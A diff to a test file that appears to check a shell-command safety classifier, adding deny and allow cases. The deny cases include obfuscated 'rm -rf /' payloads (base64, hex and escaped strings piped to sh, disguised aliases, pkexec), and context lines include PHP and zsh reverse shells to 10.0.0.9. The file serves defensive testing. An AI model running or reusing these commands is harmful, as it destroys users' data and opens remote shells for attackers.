@@ -225,6 +225,10 @@ def _more_spellings(bash: Bash) -> None:
         "php -r '$sock=fsockopen(\"10.0.0.9\",9001);shell_exec(\"sh <&3 >&3 2>&3\");'",
         "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.9 9001; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
         "find / -xdev -exec sh -c 'rm -rf \"$@\"' sh {} +", "rm -rf ~/{Documents,Pictures}/",
+        "echo cm0gLXJmIC8K | base64 -d | sh", "bash -c \"$(echo cm0gLXJmIH4K | base64 -d)\"",
+        "eval \"$(echo cm0gLXJmIC8K | base64 --decode)\"", "echo 726d202d7266202f | xxd -r -p | sh",
+        "echo -e '\\x72\\x6d -rf /' | sh", "alias x='rm -rf /'; x", "alias nuke='rm -rf'; nuke ~",
+        "script -q -c 'rm -rf ~' /dev/null", "runuser -l dev -c 'rm -rf ~'", "pkexec rm -rf /",
     ], D, HC)
     _each(bash, [
         "awk '{system($0)}' cmds.txt", "echo hi | awk '{print $1}'", "sem --wait", "env -C /tmp rm -rf build",
@@ -233,6 +237,8 @@ def _more_spellings(bash: Bash) -> None:
         "printf 'a\\0b\\0' | xargs -0 -n1 echo", "watch -n 1 sh -c 'rm -rf ~'", "watch -x ls -la",
         "bash -c 'echo \"$*\"' _ a b", "find . -name '*.pyc' -exec sh -c 'rm -f \"$@\"' sh {} +",
         "bash -c 'echo > /dev/tcp/localhost/5432' && $PYTHON manage.py migrate",
+        "echo aGVsbG8K | base64 -d", "echo -e 'a\\tb'", "alias ll='ls -la'; ll", "script -c \"npm test\" /dev/null",
+        "x=$(echo / | sed 's|/|/tmp/|'); echo \"$x\"",
     ], A, HT)
 
 
@@ -308,6 +314,7 @@ def _git_losses(bash: Bash) -> None:
         "git checkout -f -B main", "git reset --keep HEAD~2", "git checkout -B main origin/main",
         "git switch -C main origin/main", "git branch -f main origin/main", "git push --prune origin",
         "git reflog delete HEAD@{1}", "git worktree remove --force \"$WT\"", "git submodule deinit -f --all",
+        "git prune", "git prune --expire=now",
     ], Q, GC)
     _each(bash, [
         "git rm src/old.py", "git rm --cached .env", "git rm --cached -f .env", "git rm -r --cached .",
@@ -320,5 +327,5 @@ def _git_losses(bash: Bash) -> None:
         "git restore --staged --pathspec-from-file=list.txt", "git checkout --ours file.txt",
         "git checkout --theirs logs/a.json", "git stash", "git stash push -m \"wip\"", "git stash pop", "git stash list",
         "git restore --source HEAD~1 src/app.py", "git submodule deinit sub", "git submodule update --init --recursive",
-        "git worktree prune --expire=now", "git stash clea",
+        "git worktree prune --expire=now", "git stash clea", "git prune -n", "git remote prune origin",
     ], A, GT)
